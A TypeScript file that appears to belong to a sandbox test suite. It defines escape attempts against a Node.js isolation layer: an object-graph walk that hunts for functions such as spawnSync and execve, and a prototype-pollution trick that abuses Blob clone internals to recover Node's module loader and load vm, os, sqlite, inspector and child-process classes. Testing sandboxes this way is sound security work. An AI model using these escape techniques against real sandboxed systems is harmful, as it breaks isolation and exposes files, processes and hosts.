import type { Attack } from '../attack.ts';
import { atImport, probes } from '../sources.ts';

/** Which of the objects that it can reach gives the code of other processes, files or the engine. */
const walk = `
function walk(roots: object): string | undefined {
  const hot = ['SourceTextModule', 'SyntheticModule', 'DatabaseSync', 'readFileSync', 'spawnSync', 'createRequire',
    'setFlagsFromString', 'createServer', 'runInThisContext', 'reportOnSignal', 'dlopen', 'execve', '_debugProcess'];
  const seen = new Set<unknown>();
  const queue: [string, any][] = [];
  const put = (path: string, value: unknown) => {
    if ((typeof value === 'object' && value !== null) || typeof value === 'function')
      if (!seen.has(value) && queue.length < 30_000) { seen.add(value); queue.push([path, value]); }
  };
  for (const [name, value] of Object.entries(roots)) put(name, value);
  for (const [path, value] of queue) {
    const found = hot.find((name) => Object.hasOwn(value, name));
    if (found !== undefined) return path + '.' + found;
    put(path + '/', Object.getPrototypeOf(value));
    for (const key of Reflect.ownKeys(value)) {
      if (ArrayBuffer.isView(value) && typeof key === 'string') continue;
      try {
        const { get, set, ...data } = Object.getOwnPropertyDescriptor(value, key)!;
        for (const part of [get, set, get?.call(value), data.value]) put(path + '.' + String(key), part);
      } catch {}
    }
  }
  return undefined;
}
`;

const imports = `
import * as undici from 'undici';
import * as nodeCrypto from 'node:crypto';
import * as events from 'node:events';
import * as util from 'node:util';
import * as buffer from 'node:buffer';
import * as url from 'node:url';
import * as assert from 'node:assert';
import * as timers from 'node:timers';
`;

/**
 * Node makes a cloned object's class by the name that the object gives, if its prototype can take the data.
 * The constructor then gives itself away by what it first writes.
 */
const summon = `
async function summon(name: string, written: string, clone: (value: any) => any): Promise<any> {
  const [cloned, taken] = ['clone', 'deserialize'].map((word) =>
    Object.getOwnPropertySymbols(Blob.prototype).find((key) => String(key).includes('messaging_' + word))!);
  let caught: any;
  const all: any = Object.prototype;
  all[taken!] = () => undefined;
  Object.defineProperty(all, written, {
    configurable: true,
    get: () => undefined,
    set(value) {
      caught ??= this;
      Object.defineProperty(this, written, { value, writable: true, configurable: true });
    },
  });
  const value = Object.assign(new Blob(['x']), { [cloned!]: () => ({ data: {}, deserializeInfo: name }) });
  try { await clone(value); } finally { delete all[written]; delete all[taken!]; }
  return caught;
}
const Module = async (clone: (value: any) => any) => (await summon('module:Module', 'id', clone)).constructor;
const byPort = (value: any) => new Promise<void>((done, reject) => {
  const { port1, port2 } = new MessageChannel();
  port2.onmessage = () => done();
  port2.onmessageerror = reject;
  port1.postMessage(value);
  setTimeout(() => { port1.close(); done(); }, 50);
});
`;

/** Attacks on what Node keeps inside: objects that lead to modules, and classes that it makes by name. */
export const insideNode: readonly Attack[] = [
  atImport(
    {
      name: 'walks all objects that it can reach',
      wants: 'a module that is not on the list, wherever Node has put it',
      classes: [20, 59, 60],
    },
    walk +
      probes({
        'a way out': `walk({ globalThis, process, undici, nodeCrypto, events, util, buffer, url, assert, timers, stdin: P.stdin, stdout: P.stdout, hash: nodeCrypto.createHash('sha256'), timer: setTimeout(() => undefined, 1), channel: new MessageChannel().port1.close(), error: new Error(), request: new Request('http://x/') })`,
      }),
    imports,
  ),
  atImport(
    {
      name: 'has a class of Node’s made by a clone',
      wants: 'the loader of modules, and by it every module',
      classes: [20, 59, 60],
    },
    ({ traces }) =>
      summon +
      probes({
        'a database': `new ((await Module(structuredClone))._load('node:sqlite').DatabaseSync)('${traces}/db').exec('CREATE TABLE t (x)') ?? 'it'`,
        vm: `(await Module(structuredClone))._load('node:vm').runInThisContext.name`,
        "the machine's name": `(await Module((detail) => performance.mark('x', { detail })))._load('node:os').hostname()`,
        'a loader by a port': '(await Module(byPort)).name',
        'a debugger': `(await summon('inspector:Session', '_events', structuredClone)).constructor.name`,
        'a child process': `(await summon('internal/child_process:ChildProcess', '_closesNeeded', structuredClone)).constructor.name`,
      }),
  ),
];
